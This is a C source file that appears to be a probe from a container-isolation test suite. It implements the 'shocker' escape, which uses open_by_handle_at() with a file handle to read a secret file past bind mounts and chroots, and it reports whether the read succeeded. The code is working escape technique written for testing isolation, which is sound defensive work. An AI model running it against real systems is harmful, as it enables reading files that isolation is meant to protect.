/*
 * The "shocker" technique: open_by_handle_at() opens a file by its inode handle, relative to ANY
 * descriptor on the same filesystem, bypassing the path walk (so bind mounts, hidden paths and
 * chroots do not apply). Needs CAP_DAC_READ_SEARCH.
 *
 *   open_by_handle SECRET TOKEN [HANDLE]   try it; HANDLE ("TYPE:HEX", or "-") is the secret's
 *                                          handle computed outside, as an attacker would guess it;
 *                                          without one, name_to_handle_at(SECRET) is tried here
 *   open_by_handle --print-handle PATH     setup mode (not a probe run): print PATH's handle
 *
 * Escaped if the opened file's content contains TOKEN.
 */
#include "probe_common.c"
#include <libgen.h>
#include <stddef.h>

/* struct file_handle ends in a flexible array: keep it in a buffer with room for the bytes. */
static union {
    struct file_handle fh;
    unsigned char raw[sizeof(struct file_handle) + MAX_HANDLE_SZ];
} hb;
static struct file_handle *const fh = &hb.fh;
#define HANDLE_BYTES (hb.raw + offsetof(struct file_handle, f_handle))

static int get_handle(const char *path)
{
    int mount_id;
    fh->handle_bytes = MAX_HANDLE_SZ;
    return name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0);
}

static int parse_handle(const char *s)
{
    char *end;
    long type = strtol(s, &end, 10);
    if (*end != ':') return -1;
    const char *hex = end + 1;
    size_t len = strlen(hex);
    if (len == 0 || len % 2 || len / 2 > MAX_HANDLE_SZ) return -1;
    for (size_t i = 0; i < len / 2; i++) {
        unsigned v;
        if (sscanf(hex + 2 * i, "%2x", &v) != 1) return -1;
        HANDLE_BYTES[i] = (unsigned char)v;
    }
    fh->handle_bytes = (unsigned)(len / 2);
    fh->handle_type = (int)type;
    return 0;
}

int main(int argc, char **argv)
{
    PROBE("open_by_handle");
    if (argc > 1 && strcmp(argv[1], "--print-handle") == 0) {
        const char *path = need_arg(argc, argv, 2, "PATH");
        if (get_handle(path) < 0) {
            fprintf(stderr, "name_to_handle_at(%s): %s\n", path, en(errno));
            return 2;
        }
        printf("%d:", fh->handle_type);
        for (unsigned i = 0; i < fh->handle_bytes; i++) printf("%02x", HANDLE_BYTES[i]);
        printf("\n");
        return 0;
    }

    const char *secret = need_arg(argc, argv, 1, "PATH of the secret");
    const char *token = argc > 2 ? argv[2] : NULL;
    const char *given = argc > 3 ? argv[3] : "-";
    const char *source;
    if (strcmp(given, "-") != 0) {
        if (parse_handle(given) < 0) report(ERROR, "bad handle '%s' (want TYPE:HEX)", given);
        source = "the given handle";
    } else if (get_handle(secret) == 0) {
        source = "name_to_handle_at(secret)";
    } else {
        int e = errno;
        if (e == EPERM || e == EACCES) report(BLOCKED, "no handle given, and name_to_handle_at(%s): %s", secret, en(e));
        report(ERROR, "no handle given, and name_to_handle_at(%s): %s: nothing to open", secret, en(e));
    }

    /* A mount fd only names the filesystem to decode the handle on: try a few likely ones. */
    char dirbuf[4096];
    snprintf(dirbuf, sizeof dirbuf, "%s", secret);
    const char *candidates[] = { dirname(dirbuf), "/", "/tmp", ".", "/proc/self/cwd" };
    char tried[2048] = "";
    size_t tl = 0;
    int first_err = 0;
    for (size_t i = 0; i < sizeof candidates / sizeof *candidates; i++) {
        int mfd = open(candidates[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (mfd < 0) continue;
        int fd = open_by_handle_at(mfd, fh, O_RDONLY | O_CLOEXEC);
        int e = errno;
        close(mfd);
        if (fd >= 0) {
            char how[4200];
            snprintf(how, sizeof how, "open_by_handle_at(%s, %s) of %s", candidates[i], source, secret);
            judge_read(fd, how, token);
        }
        if (!first_err) first_err = e;
        tl += (size_t)snprintf(tried + tl, sizeof tried - tl, "%s%s: %s", tl ? ", " : "", candidates[i], en(e));
        if (tl >= sizeof tried) tl = sizeof tried - 1;
        if (e == EPERM) break; /* the call itself is refused: other mounts will not differ */
    }
    if (!first_err) report(ERROR, "no directory to use as a mount fd could be opened");
    report(BLOCKED, "open_by_handle_at with %s: %s", source, tried);
}
